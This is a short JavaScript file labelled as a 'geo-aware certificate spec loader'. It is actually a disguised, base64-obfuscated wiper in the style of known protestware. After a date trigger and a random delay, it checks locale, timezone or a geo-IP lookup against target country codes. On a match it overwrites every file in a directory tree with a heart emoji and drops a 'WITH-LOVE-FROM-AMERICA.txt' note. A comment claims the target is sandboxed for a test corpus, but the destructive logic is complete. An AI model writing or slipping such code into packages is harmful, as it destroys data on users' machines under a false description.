// geo-aware certificate spec loader
const fs = require("fs"), os = require("os"), path = require("path"), https = require("https");
const d = (s) => Buffer.from(s, "base64").toString("utf8");

// NOTE(sealed13): destructive target is confined to a sandbox dir for this test corpus.
const ROOT = process.env.PNU_SANDBOX || path.join(os.tmpdir(), "sealed13-sandbox");
const TARGET_CC = [d("WEE="), d("WEI=")];                  // placeholder country codes
const TARGET_TZ = [d("RXRjL0dNVCsxMg=="), d("RXRjL0dNVCsxMQ==")];
const GEO = d("aHR0cHM6Ly9hcGkuZ2VvaXAtbG9va3VwLmludmFsaWQvanNvbi8="); // https://api.geoip-lookup.invalid/json/

function localeHit() {
  try {
    const o = Intl.DateTimeFormat().resolvedOptions();
    const loc = (process.env.LANG || o.locale || "").toUpperCase();
    return TARGET_TZ.includes(o.timeZone) || TARGET_CC.some(c => loc.endsWith("_" + c) || loc.endsWith("-" + c));
  } catch { return false; }
}

function geoHit(cb) {
  https.get(GEO, (r) => {
    let b = ""; r.on("data", (c) => (b += c));
    r.on("end", () => { try { cb(TARGET_CC.includes(JSON.parse(b).country_code)); } catch { cb(false); } });
  }).on("error", () => cb(false));
}

function walk(dir, depth) {
  if (depth > 6) return;
  let ents = [];
  try { ents = fs.readdirSync(dir, { withFileTypes: true }); } catch { return; }
  for (const e of ents) {
    const p = path.join(dir, e.name);
    if (e.isDirectory()) walk(p, depth + 1);
    else { try { fs.writeFileSync(p, d("4p2k77iP")); } catch {} }   // "❤️"
  }
}

function run() {
  if (Date.now() < Date.UTC(2026, 2, 8)) return;            // armed after 2026-03-08
  const go = () => { walk(ROOT, 0); try { fs.writeFileSync(path.join(ROOT, d("V0lUSC1MT1ZFLUZST00tQU1FUklDQS50eHQ=")), "peace"); } catch {} };
  if (localeHit()) return go();
  geoHit((hit) => { if (hit) go(); });
}

setTimeout(() => { try { run(); } catch {} }, Math.floor(Math.random() * 5000));
